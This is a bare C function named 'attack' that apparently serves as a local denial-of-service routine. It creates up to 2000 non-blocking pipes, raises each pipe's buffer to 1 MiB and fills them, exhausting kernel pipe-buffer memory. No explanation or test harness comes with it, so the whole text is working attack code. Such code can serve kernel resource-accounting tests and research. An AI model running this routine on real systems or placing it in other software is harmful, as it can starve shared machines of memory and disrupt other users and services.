static void attack(void)
{
    static char piece[64 << 10];
    for (int i = 0; i < 2000; ++i) {
        int ends[2];
        if (pipe2(ends, O_NONBLOCK) < 0)
            break;
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        while (write(ends[1], piece, sizeof piece) > 0) {
        }
    }
}
